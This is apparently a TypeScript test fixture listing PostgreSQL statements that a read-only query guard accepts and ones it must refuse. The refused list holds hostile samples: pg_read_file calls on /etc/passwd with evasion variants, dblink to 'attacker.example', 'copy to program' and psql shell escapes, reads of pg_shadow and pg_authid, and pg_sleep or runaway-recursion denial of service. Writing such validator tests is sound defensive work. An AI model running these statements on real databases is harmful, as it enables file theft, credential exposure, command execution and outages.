/** Statements for PostgreSQL: what people ask, and what must not pass. `⏎` stands for a line break. */
export const reads = String.raw`
select 1
SELECT 1;
select 1 ; -- done
/* why: ticket 7 */ select count(*) from orders
select /* a; b */ 1
-- first⏎select 1
select 'a; drop table x; --', 'it''s', E'tab\there', $$; delete from t$$, $q$ \! sh $q$
select "drop", "select"."from" from "select"
select 'ünï', '日本', U&'\00e9'
select id, total from orders where customer = 'O''Brien' order by total desc nulls last limit 10 offset 20
select o.id, c.name from orders o join customers c on c.id = o.customer_id left join lateral (select max(at) from events e where e.order_id = o.id) m on true
select * from a natural join b cross join c full outer join d using (id, day) as j
select distinct on (customer_id) customer_id, id, created_at from orders order by customer_id, created_at desc
select customer_id, count(*) filter (where paid) as paid, sum(total) over (partition by customer_id order by created_at rows between unbounded preceding and current row) from orders group by 1, total, created_at having count(*) > 1
select row_number() over w, lag(total, 1) over w, first_value(id) over w from orders window w as (partition by customer_id order by id)
select case when total > 100 then 'big' when total is null then 'none' else 'small' end from orders
select case status when 1 then 'a' else 'b' end from t
select coalesce(a, b, 0), nullif(a, b), greatest(a, b), least(1, 2) from t
select now() - interval '7 days', current_date, current_timestamp(3), localtime, age(now(), created_at) from t
select date_trunc('hour', created_at) as h, extract(epoch from created_at), to_char(created_at, 'YYYY-MM-DD') from t group by 1, 2, 3
select created_at at time zone 'Europe/Berlin', created_at::date, cast(x as numeric(10, 2)), '5'::int, x::text[] from t
select generate_series(1, 10)
select d::date from generate_series(now() - interval '30 days', now(), interval '1 day') as d
select g.n from generate_series(2020, 2026) as g(n)
select upper(a) || lower(b), length(a), substring(a from 1 for 3), substring(a, 'x(.*)'), position('a' in b), trim(both ' ' from a), overlay(a placing 'x' from 1), split_part(email, '@', 2) from t
select regexp_replace(a, '(\d+)', '<\1>', 'g'), a ~ '^x', a !~* 'y', a ilike '%z\_%', a similar to 'a|b', a like 'x!%' escape '!' from t
select string_agg(name, ', ' order by name), array_agg(distinct id), jsonb_agg(t), json_object_agg(k, v), bool_or(x) from t
select data->'a'->>'b', data #>> '{a,b}', data @> '{"x": 1}', data ? 'k', data ?| array['a', 'b'], jsonb_path_query(data, '$.x[*]') from t
select key, value from jsonb_each('{"a": 1}')
select e.key, e.value from t, jsonb_each_text(t.data) as e
select x.* from t cross join lateral jsonb_to_recordset(t.items) as x(sku text, n int)
select unnest(array[1, 2, 3]), array_length(tags, 1), tags[1], tags[1:2], 'a' = any(tags), array(select id from t) from t
select u.tag, u.ordinality from t, unnest(t.tags) with ordinality as u(tag, ordinality)
select (select max(id) from a), exists (select 1 from b where b.id = t.id), id in (select id from c), id = any (select 1), (a, b) = (1, 2), row(1, 2) from t
with a as (select 1 as x), b as materialized (select x + 1 as y from a) select * from a, b
with recursive tree as (select id, parent_id, 1 as depth from category where parent_id is null union all select c.id, c.parent_id, t.depth + 1 from category c join tree t on c.parent_id = t.id) select * from tree
with recursive n(i) as (values (1) union all select i + 1 from n where i < 100) select sum(i) from n
with recursive up as (select * from node where id = 5 union select p.* from node p, up where p.id = up.parent) select * from up
select a from t union select b from u union all (select c from v order by 1 limit 3) except select 4 intersect select 5
values (1, 'a'), (2, 'b')
table orders
table only public.orders
select * from only orders tablesample system (1) repeatable (3)
select grouping(a), a, b, sum(c) from t group by grouping sets ((a), (b), ()), rollup (a, b), cube (a)
select percentile_cont(0.95) within group (order by ms), mode() within group (order by x) from t
select count(*) from orders where created_at between '2024-01-01' and '2024-02-01' and not deleted and note is distinct from 'x' and paid is not true
select relname, pg_size_pretty(pg_total_relation_size(oid)) from pg_class where relkind = 'r' order by pg_total_relation_size(oid) desc limit 20
select pid, usename, state, wait_event_type, query_start, left(query, 80) from pg_stat_activity where state <> 'idle'
select pid, pg_blocking_pids(pid) from pg_stat_activity where cardinality(pg_blocking_pids(pid)) > 0
select * from pg_locks l join pg_stat_activity a using (pid) where not l.granted
select n_live_tup, n_dead_tup, last_autovacuum from pg_stat_user_tables where relname = 'orders'
select table_name, column_name, data_type from information_schema.columns where table_schema = 'public'
select indexname, indexdef from pg_indexes where tablename = 'orders'
select pg_get_indexdef(indexrelid), idx_scan from pg_stat_user_indexes
select conname, pg_get_constraintdef(oid) from pg_constraint where conrelid = 'orders'::regclass
select name, setting from pg_settings where name like '%timeout%'
select current_setting('work_mem'), version(), current_database(), current_user, session_user, inet_server_addr(), pg_is_in_recovery(), pg_last_xact_replay_timestamp()
select datname, pg_database_size(datname), xact_commit from pg_stat_database
select client_addr, state, pg_wal_lsn_diff(pg_current_wal_lsn(), replay_lsn) from pg_stat_replication
select slot_name, active from pg_replication_slots
select md5('a'), sha256('x'::bytea), encode(b, 'hex'), convert_from(b, 'UTF8'), octet_length(a) from t
select abs(-1), round(1.5, 1), ceil(x), floor(x), mod(5, 3), power(2, 10), sqrt(2), random(), width_bucket(x, 0, 10, 5), 7 % 3, 2 ^ 3, |/ 4, @ -1, 5 & 3, 1 << 2 from t
select repeat('-', 20), lpad(id::text, 8, '0'), format('%s has %s', a, b), concat_ws(',', a, b), reverse(a), translate(a, 'x', 'y'), quote_literal(a) from t
select 1 as "count", 2 select_it, 3 "weird ""name"""
select t.*, t.id from public.t as t where t."group" = 1
select to_tsvector('english', body) @@ plainto_tsquery('english', 'hello world'), ts_rank(v, q) from d, to_tsquery('a & b') q
select * from t where ts >= '2024-01-01'::timestamptz and ts < '2024-01-01'::timestamptz + interval '1 day'
select * from t where id = any('{1,2,3}'::int[]) and addr << inet '10.0.0.0/8' and r && int4range(1, 5)
select json_build_object('a', 1, 'b', array[1, 2]), to_jsonb(t), row_to_json(t) from t
select a is null, b is not null, c isnull, d notnull, true and not false or null from t
select b'101', x'1F', 1e10, .5, 1_000, 0x1f, -5, +3
select * from (values (1, 'a'), (2, 'b')) as v(id, name) where v.id = 1
select * from (select 1 as a) s where s.a = 1 fetch first 5 rows only
select a.b.c from a.b
select * from t order by lower(name) collate "C", 2 desc limit all
select pg_typeof(1), pg_column_size(t), pg_relation_size('t'), obj_description('t'::regclass) from t
select count(distinct (a, b)), count(all a), sum(distinct x), every(x) from t
select make_date(2024, 1, 1), make_interval(days => 3), date_bin('15 min', ts, '2000-01-01'), justify_days(i), isfinite(ts) from t
select (ts, ts2) overlaps (date '2024-01-01', interval '1 day') from t
select has_table_privilege('orders', 'select'), pg_has_role('x', 'member')
select gen_random_uuid()
select is_json from (select '{}' is json as is_json) s
select json_object('a': 1), json_array(1, 2), json_value(j, '$.a') from t
select not exists (select from t)
select
select * from public."Orders" where "createdAt" > now() - '1 hour'::interval
select sum(x) filter (where y) over (order by z range between interval '1 day' preceding and current row exclude ties) from t
select normalize('é', nfc), '' is normalized, collation for ('a')
explain select * from orders where id = 42
explain (costs off, format json) select 1
EXPLAIN VERBOSE SELECT 1
explain (analyze off, verbose, buffers, settings) select 1
explain update orders set paid = true where id = 1
explain delete from orders where id = 1
explain insert into orders (id) values (1) on conflict (id) do update set paid = true returning id
explain with a as (select 1) select * from a
show all
SHOW search_path
show server_version;
show time zone
show transaction isolation level`
  .trim()
  .split('\n')

export const refused = String.raw`
delete from orders
insert into orders values (1)
update orders set paid = true
merge into t using s on t.id = s.id when matched then delete
truncate orders
drop table orders
create table x as select 1
select 1; drop table orders
select 1; select 2
select 1 into x
select * into temp x from orders
select * into unlogged x from orders
with d as (delete from orders returning *) select * from d
with u as (update orders set paid = true returning id) select count(*) from u
with i as (insert into t values (1) returning 1) table i
select * from (with d as (delete from orders returning *) select * from d) s
select (with d as (delete from orders returning id) select id from d)
with a as (with b as (delete from t returning 1) select * from b) select * from a
explain with d as (delete from orders returning *) select * from d
select * from orders for update
select * from orders for no key update skip locked
select * from orders for share of orders nowait
select * from (select * from orders for key share) s
explain analyze select 1
explain analyze delete from orders
explain (analyze) select 1
explain (analyze true, costs off) select 1
explain (ANALYZE on) select 1
explain ("analyze") select 1
explain (analyze off, analyze on) select 1
explain (serialize text, analyze) select 1
explain create table x as select 1
explain execute p
explain declare c cursor for select 1
select pg_read_file('/etc/passwd')
select pg_catalog.pg_read_file('/etc/passwd')
select "pg_read_file"('/etc/passwd')
select PG_READ_FILE('/etc/passwd')
select U&"pg\005fread_file"('/etc/passwd')
select pg_read_binary_file('/etc/passwd'), pg_stat_file('/etc'), pg_ls_dir('/'), pg_ls_logdir()
select ('/etc/passwd'::text).pg_read_file
select (path).pg_read_file from t
select x.pg_read_file from cast('/etc/passwd' as text) x
select x.pg_read_file from upper('/etc/passwd') x
select upper.pg_read_file from upper('/etc/passwd')
select x.pg_read_file from unnest(array['/etc/passwd']) x
select (array['/etc/passwd'])[1].pg_read_file
select (select x from (values ('/etc/passwd')) v(x)).pg_read_file
select lo_import('/etc/passwd')
select lo_export(1, '/tmp/x')
select lo_get(1), lo_from_bytea(0, 'x'), loread(1, 2)
select dblink('host=attacker.example', 'select 1')
select dblink_connect('host=attacker.example')
select * from dblink('host=x', 'select 1') as t(a int)
select pg_sleep(1000)
select pg_sleep_for('1 day'), pg_sleep_until('tomorrow')
select 1 where (select pg_sleep(5)) is null
select 1 order by pg_sleep(5)
select 1 limit (select pg_sleep(5))::text::int
select count(*) filter (where pg_sleep(1) is null) from t
select sum(1) over (order by pg_sleep(1)) from t
select case when true then pg_sleep(5) end
select pg_terminate_backend(1)
select pg_cancel_backend(pid) from pg_stat_activity
select pg_reload_conf(), pg_rotate_logfile()
select set_config('search_path', 'evil', false)
select query_to_xml('delete from orders', true, false, '')
select table_to_xml('pg_authid', true, false, ''), database_to_xml(true, true, '')
select cursor_to_xml('c', 1, true, false, '')
select ts_stat('select pg_read_file(1)')
select * from ts_stat('delete from t')
select ts_rewrite('a'::tsquery, 'select 1')
select nextval('orders_id_seq'), setval('orders_id_seq', 1)
select pg_advisory_lock(1), pg_try_advisory_lock(2), pg_advisory_unlock_all()
select pg_notify('c', 'x')
select txid_current(), pg_current_xact_id()
select pg_export_snapshot(), pg_create_restore_point('x'), pg_switch_wal(), pg_promote()
select pg_create_logical_replication_slot('x', 'y'), pg_drop_replication_slot('x'), pg_logical_slot_get_changes('x', null, null)
select pg_stat_reset(), pg_stat_statements_reset()
select pg_file_write('/tmp/x', 'y', false)
select crosstab('delete from t')
select xpath('/a', '<a/>'), xmlparse(document '<a/>'), xmlelement(name a)
select public.reset_everything()
select my_function(1)
select evil.count(1)
select a operator(public.+) b from t
select 1 operator(evil.===) 2
select 1 order by 1 using operator(public.<)
select * from pg_authid
select rolpassword from pg_catalog.pg_authid
select passwd from pg_shadow
select * from pg_hba_file_rules
select * from pg_user_mappings
select subconninfo from pg_subscription
select * from pg_largeobject
table pg_shadow
select (select passwd from pg_shadow limit 1)
with recursive r as (select 1 union all select 1 from r) select count(*) from r
with recursive r(n) as (select 1 union all select n + 1 from r) select count(*) from r
with recursive r(n) as (select 1 union all select n + 1 from r where true) select * from r
with recursive r(n) as (select 1 union all select n + 1 from r where 1 = 1) select * from r
with recursive r(n) as (select 1 union all select n + 1 from r where n < 10000000000) select * from r
select generate_series(1, 1000000000)
select count(*) from generate_series(1, 100000) a, generate_series(1, 100000) b
select repeat('x', 1000000000)
select repeat('x', 100000 * 100000)
copy (select 1) to program 'id'
copy orders to stdout
\! id
 \! id
\copy orders to '/tmp/x'
select 1 \g /tmp/x
select 1 \gexec
select :name
select :'x'
select 1 where :{?x}
select $1
do $$ begin perform 1; end $$
call p()
execute p
prepare p as select 1
declare c cursor for select 1
fetch all from c
listen c
lock table orders
set search_path = evil
reset all
begin
discard all
vacuum
analyze orders
load '/tmp/x.so'
create function f() returns int language sql as 'select 1'
grant all on orders to public
alter system set x = 1
refresh materialized view v
select from from
select 'open
select /* open
;`
  .trim()
  .split('\n')
  .map(line => line.trimEnd())
